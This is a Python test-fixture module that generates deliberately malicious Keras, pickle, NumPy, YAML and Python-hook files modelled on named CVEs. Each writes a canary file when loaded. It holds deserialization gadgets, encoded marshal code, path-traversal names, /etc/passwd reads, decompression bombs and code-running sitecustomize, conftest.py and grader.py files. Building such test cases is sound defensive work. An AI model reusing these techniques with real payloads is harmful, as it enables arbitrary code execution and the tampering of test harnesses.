"""Model files and modules that do harm where a program opens or imports them (threats E), tiny.

Each would write the canary if it were loaded as its kind usually is; the names in brackets are the
advisories whose shape it has.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

HDF5 = b"\x89HDF\r\n\x1a\n"


class _Touch:
    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.canary,)


def _zip(**members: bytes | str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return stream.getvalue()


def _keras(config: dict[str, Any], **more: bytes | str) -> bytes:
    layers = {"class_name": "Sequential", "module": "keras", "config": {"layers": [config]}}
    weights = {"model_dot_weights_dot_h5": HDF5}
    return _zip(config_dot_json=json.dumps(layers), metadata_dot_json="{}", **weights, **more)


def _npy(dtype: str, shape: str, data: bytes) -> bytes:
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}}}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def _lambda(canary: Path) -> bytes:
    code = compile(f"open({str(canary)!r}, 'w')", "<lambda>", "eval")
    text = base64.b64encode(marshal.dumps(code)).decode()
    return _keras({"class_name": "Lambda", "config": {"function": [text, None, None]}})


def _gadget(canary: Path) -> bytes:
    config = {"name": str(canary), "arguments": {"mode": "w"}}
    return _keras({"module": "builtins", "class_name": "function", "config": config})


def _unsafe(canary: Path) -> bytes:
    name = "enable_unsafe_deserialization"
    return _keras({"module": "keras.config", "class_name": "function", "config": name})


def _loads_another(canary: Path) -> bytes:
    return _keras({"class_name": "TFSMLayer", "config": {"filepath": str(canary.parent)}})


def _vocabulary(canary: Path) -> bytes:
    return _keras({"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}})


def _layer_name(canary: Path) -> bytes:
    return _keras({"class_name": "Dense", "config": {"name": "../" * 9 + str(canary)[1:]}})


def _torch(canary: Path) -> bytes:
    pickled = base64.b64encode(pickle.dumps(_Touch(canary))).decode()
    return _keras({"class_name": "TorchModuleWrapper", "config": {"module": pickled}})


def _pickled(canary: Path) -> bytes:
    return pickle.dumps(_Touch(canary))


def _module(canary: Path) -> bytes:
    return f"open({str(canary)!r}, 'w').close()\n".encode()


def _yaml(canary: Path) -> bytes:
    return f"!!python/object/apply:pathlib.Path.touch [{canary}]\n".encode()


FILES: dict[str, Callable[[Path], bytes]] = {
    "lambda.keras": _lambda,  # CVE-2024-3660
    "gadget.keras": _gadget,  # CVE-2025-1550, 2025-8747, 2026-12481
    "unsafe.keras": _unsafe,  # CVE-2025-9906
    "tfsm.keras": _loads_another,  # CVE-2026-1462
    "lookup.keras": _vocabulary,  # CVE-2025-12058
    "names.keras": _layer_name,  # CVE-2026-12479
    "torch.keras": _torch,  # CVE-2025-49655
    "slip.keras": lambda canary: _keras(
        {}, **{f"..__..{canary}": b""}
    ),  # CVE-2024-55459, 2025-12060
    "bomb.keras": lambda _: _keras({}, big=bytes(2_000_000)),  # decompression bombs
    "modelo.h5": lambda _: HDF5 + bytes(80) + b"lambda",  # CVE-2025-9905, 2026-12570
    "externo.hdf5": lambda _: HDF5 + bytes(80) + b"/etc/passwd",  # CVE-2026-1669, 2026-0897
    "guardado/saved_model.pb": lambda _: b"\x08\x01\x12\x00",
    "guardado/keras_metadata.pb": lambda _: b"\x0a\x04root",
    "modelo.yaml": _yaml,  # CVE-2021-37678
    "modelo.pkl": _pickled,
    "modelo.joblib": _pickled,
    "modelo.dill": _pickled,
    "modelo.pt": lambda canary: _zip(archive__data_dot_pkl=_pickled(canary)),
    "pesos.npy": lambda canary: _npy("|O", "(1,)", _pickled(canary)),
    "pesos.npz": lambda canary: _zip(x_dot_npy=_npy("|O", "(1,)", _pickled(canary))),
    "forma.npy": lambda _: _npy("<f8", f"({10**12},)", b""),
    "modulo.marshal": lambda canary: marshal.dumps(compile(_module(canary), "x", "exec")),
    "sitecustomize.py": _module,
    "usercustomize.py": _module,
    "conftest.py": _module,
    "grader.py": _module,
    "keras.py": _module,
    "x.pth": lambda canary: b"import pathlib; " + _module(canary),
    "assignment.toml": lambda _: b"[spec]\n",
}
